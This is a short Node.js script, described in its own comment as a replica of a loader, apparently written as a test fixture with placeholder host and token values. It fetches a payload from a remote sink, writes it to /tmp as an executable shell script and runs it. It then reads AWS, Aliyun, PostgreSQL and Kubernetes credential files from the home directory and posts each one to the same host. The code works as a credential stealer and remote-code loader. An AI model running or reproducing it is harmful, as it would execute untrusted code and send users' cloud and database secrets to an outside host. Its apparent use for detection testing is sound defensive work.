// Replica of a loader: asks where it is, unpacks a helper in /tmp, starts it, and takes four credentials.
const { spawnSync } = require('child_process'), fs = require('fs'), http = require('http'), os = require('os')
const ask = (path, body) => new Promise(done => {
  const request = http.request('http://@SINK@:8000' + path, { method: body ? 'POST' : 'GET', timeout: 3000 }, answer => {
    const parts = []
    answer.on('data', part => parts.push(part)).on('end', () => done(Buffer.concat(parts)))
  })
  request.on('error', error => { console.log('refused', error.code); done(null) })
  request.end(body)
})
const main = async () => {
  await ask('/geo')
  const helper = await ask('/vt')
  if (helper) {
    fs.mkdirSync('/tmp/vt-@TOKEN@')
    fs.writeFileSync('/tmp/vt-@TOKEN@/vt', '#!/bin/sh\n' + helper, { mode: 0o700 })
    spawnSync('/tmp/vt-@TOKEN@/vt')
  }
  for (const name of ['.aws/credentials', '.aliyun/config.json', '.pgpass', '.kube/config']) {
    try { await ask('/in', fs.readFileSync(os.homedir() + '/' + name)) } catch (error) { console.log('refused', error.code) }
  }
}
main()
